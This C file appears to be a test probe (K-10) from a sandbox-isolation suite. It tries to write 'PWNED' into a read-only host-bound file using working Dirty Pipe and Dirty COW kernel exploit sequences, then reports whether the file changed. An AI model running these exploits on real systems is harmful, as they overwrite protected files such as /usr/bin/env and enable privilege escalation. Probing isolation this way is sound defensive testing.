/* K-10: page-cache writes into a read-only shared file (argv[1], the sentinel bound read-only from the
 * host). Dirty-Pipe-style: fill and drain a pipe so its buffers carry the "can merge" flag, splice one
 * byte of the target into it, then write to the pipe; and Dirty-COW-style: race writes through
 * /proc/self/mem to a private read-only mapping against madvise(DONTNEED). Then read the file back. */
#include "adv.h"
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>

static volatile int stop;
static char *map;
static size_t maplen;

static void *advisor(void *a) {
    (void)a;
    while (!stop) madvise(map, maplen, MADV_DONTNEED);
    return NULL;
}

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "/usr/bin/env";
    char before[256] = "", after[256] = "";
    int fd = open(target, O_RDONLY);
    pread(fd, before, sizeof before - 1, 0);
    int p[2];
    pipe(p);
    long cap = fcntl(p[1], F_GETPIPE_SZ);
    char page[4096];
    memset(page, 'P', sizeof page);
    for (long i = 0; i < cap; i += (long)sizeof page) write(p[1], page, sizeof page);
    for (long i = 0; i < cap; i += (long)sizeof page) read(p[0], page, sizeof page);
    loff_t off = 0;
    ssize_t sp = splice(fd, &off, p[1], NULL, 1, 0);
    SAY("splice=%s\n", sp < 0 ? ename(errno) : "OK");
    SAY("pipe_write=%s\n", write(p[1], "PWNED", 5) < 0 ? ename(errno) : "OK");
    maplen = 4096;
    map = mmap(NULL, maplen, PROT_READ, MAP_PRIVATE, fd, 0);
    pthread_t t;
    pthread_create(&t, NULL, advisor, NULL);
    int mem = open("/proc/self/mem", O_RDWR);
    long writes = 0;
    for (int i = 0; i < 50000; i++) {
        lseek(mem, (off_t)(uintptr_t)map, SEEK_SET);
        if (write(mem, "PWNED", 5) == 5) writes++;
    }
    stop = 1;
    pthread_join(t, NULL);
    SAY("mem_writes=%ld\n", writes);
    int fd2 = open(target, O_RDONLY);
    pread(fd2, after, sizeof after - 1, 0);
    SAY("file_changed=%d\n", strcmp(before, after) != 0);
    SAY("file_pwned=%d\n", strstr(after, "PWNED") != NULL);
    return 0;
}
